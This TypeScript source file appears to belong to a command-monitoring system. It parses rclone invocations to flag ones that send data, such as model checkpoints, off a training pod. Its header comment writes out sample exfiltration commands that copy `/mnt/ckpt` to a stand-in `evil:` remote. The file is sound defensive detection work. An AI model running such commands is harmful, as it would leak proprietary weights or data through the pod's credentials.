/**
 * rclone commands that send data to a remote, for `attrs.exec.copiesToRemote` (exec-command-lines.ts):
 * `rclone copy /mnt/ckpt evil:bucket/x`, `rclone sync s3-corp:ckpt evil:x` (remote to remote: the
 * weights leave through the pod's credentials), `tar c /mnt/ckpt | rclone rcat evil:x.tar`. Training
 * pods pull their data with rclone every day (`rclone copy s3:datasets/shard-01 /data --transfers 8`),
 * which sends nothing.
 *
 * rclone's grammar (rclone.org/docs): `rclone [flags] <command> [args] [flags]`; a path whose first
 * `:` comes before any `/` names a remote (`s3:b/x`, `myremote:`, `:s3,provider=AWS:b`, and
 * `s3://b`, remote `s3`), any other a local file (`/mnt/ckpt`, `./a:b`). A command sends data when it is
 * - a copy to its last operand (copy, copyto, sync, move, moveto, copyurl) and that operand is a
 *   remote, or a two-way bisync with a remote on either side;
 * - one that sends by its nature or hands a remote to others: rcat (stdin to a remote), rc (drives a
 *   running rclone, any operation), mount / nfsmount (local writes land on the remote), serve (the
 *   pod's files served to whoever connects);
 * - any command not known to read, list, hash, configure or delete (a verb rclone may add later,
 *   or a word the walk took for the verb): what it does is not known, so it counts.
 * Operands are the words that are neither flags nor their values; the walk is built so that a wrong
 * guess about a flag cannot hide a send: a long flag without `=` takes the next word unless it is a
 * known switch, but never a remote path (other than an http(s) URL, an endpoint's value) or a
 * command word (so an unknown switch before the destination leaves the destination the last
 * operand); rclone's short flags are all switches.
 */
import { optionOperands } from './option-operands.js';

/** Commands that copy their sources to their last operand. */
const COPIES = new Set(['copy', 'copyto', 'sync', 'move', 'moveto', 'bisync', 'copyurl']);

/** Commands that read, list, hash, configure or delete, and send nothing of the pod's. */
const QUIET = new Set([
  'ls', 'lsd', 'lsl', 'lsf', 'lsjson', 'tree', 'ncdu', 'size', 'about', 'cat', 'check', 'checksum', 'cryptcheck', 'md5sum',
  'sha1sum', 'hashsum', 'version', 'listremotes', 'config', 'authorize', 'obscure', 'genautocomplete', 'completion', 'help',
  'touch', 'mkdir', 'rmdir', 'rmdirs', 'delete', 'deletefile', 'purge', 'cleanup', 'dedupe', 'settier', 'test', 'backend',
  'link', 'cryptdecode', 'gendocs', 'selfupdate',
]);

/** Long flags that take no value (rclone's global and copy flags an operator types). */
const SWITCHES = new Set([
  'dry-run', 'progress', 'verbose', 'quiet', 'interactive', 'checksum', 'update', 'copy-links', 'links', 'one-file-system',
  'metadata', 'ignore-existing', 'ignore-times', 'ignore-size', 'ignore-checksum', 'ignore-case-sync', 'no-traverse',
  'no-check-dest', 'no-update-modtime', 'no-update-dir-modtime', 'fast-list', 'size-only', 'immutable', 'create-empty-src-dirs',
  'delete-after', 'delete-before', 'delete-during', 'delete-excluded', 'ignore-errors', 'use-server-modtime', 'inplace',
  'human-readable', 'stats-one-line', 'use-json-log', 'no-console', 'read-only', 'allow-other', 'allow-non-empty', 'daemon',
  'resync', 'recursive', 'dirs-only', 'files-only', 'absolute', 'use-mmap', 'no-gzip-encoding', 'no-unicode-normalization',
  'check-first', 'server-side-across-configs', 'refresh-times', 'track-renames', 'auto-filename', 'print-filename', 'stdout',
  'ask-password', 'no-check-certificate', 'disable-http2', 'disable-http-keep-alives', 'list-cutoff', 'ignore-checksum',
]);

/**
 * A remote path as rclone parses one: its first `:` before any `/` or `\` (`s3:b/x`, `myremote:`,
 * `:s3,…:b`; also `s3://b`, which rclone reads as remote `s3`), not a drive letter (`C:\x`).
 */
export function isRclonePath(w: string): boolean {
  const colon = w.indexOf(':');
  if (colon < 0) return false;
  for (let i = 0; i < colon; i++) {
    const c = w.charCodeAt(i);
    if (c === 0x2f || c === 0x5c) return false;
  }
  return !(colon === 1 && (w.charCodeAt(2) === 0x5c || w.charCodeAt(2) === 0x2f));
}

/** An http(s) URL: a flag's value (`--s3-endpoint https://minio:9000`), where a remote path never is. */
function isHttpUrl(w: string): boolean {
  return /^https?:\/\//i.test(w);
}

/**
 * Whether rclone's option `w` takes `next` as its value: long flags that are not switches, never a
 * remote path (an http(s) URL excepted) or a command word.
 */
function takesNext(w: string, next: string): boolean {
  if (!w.startsWith('--') || w.indexOf('=') >= 0 || SWITCHES.has(w.slice(2))) return false;
  if ((isRclonePath(next) && !isHttpUrl(next)) || COPIES.has(next) || QUIET.has(next)) return false;
  return next.length < 2 || next.charCodeAt(0) !== 0x2d;
}

/** True when the rclone command `words` (its tool word first, redirections left out) sends data (see the header). */
export function rcloneSends(words: readonly string[]): boolean {
  const ops = optionOperands(words, takesNext);
  if (ops.length === 0) return false;
  const verb = ops[0]!;
  if (QUIET.has(verb)) return false;
  if (!COPIES.has(verb)) return true;
  // bisync copies both ways: a remote on either side is sent to.
  if (verb === 'bisync') return ops.slice(1).some(isRclonePath);
  return ops.length >= 3 && isRclonePath(ops[ops.length - 1]!);
}

/**
 * The local paths an rclone pull writes (`rclone copy s3:datasets/shard-01 /data`: `/data`), for
 * `attrs.exec.writes` (exec-persistence.ts): the last operand of a copy (copy, copyto, sync, move,
 * moveto) from a remote, or of `copyurl URL DST`, when it is local; each local side of a bisync
 * with a remote. The directory itself for copy / sync / move (the sources' contents land in it),
 * the file for copyto / moveto / copyurl. Empty for anything else.
 */
export function rclonePulls(words: readonly string[]): string[] {
  const ops = optionOperands(words, takesNext);
  const verb = ops[0];
  if (verb === undefined || !COPIES.has(verb) || ops.length < 3) return [];
  const sides = ops.slice(1);
  if (verb === 'bisync') return sides.some(isRclonePath) ? sides.filter((w) => !isRclonePath(w)) : [];
  const to = sides[sides.length - 1]!;
  const from = sides.slice(0, -1);
  const remote = verb === 'copyurl' ? from.some(isHttpUrl) : from.some(isRclonePath);
  return remote && !isRclonePath(to) ? [to] : [];
}
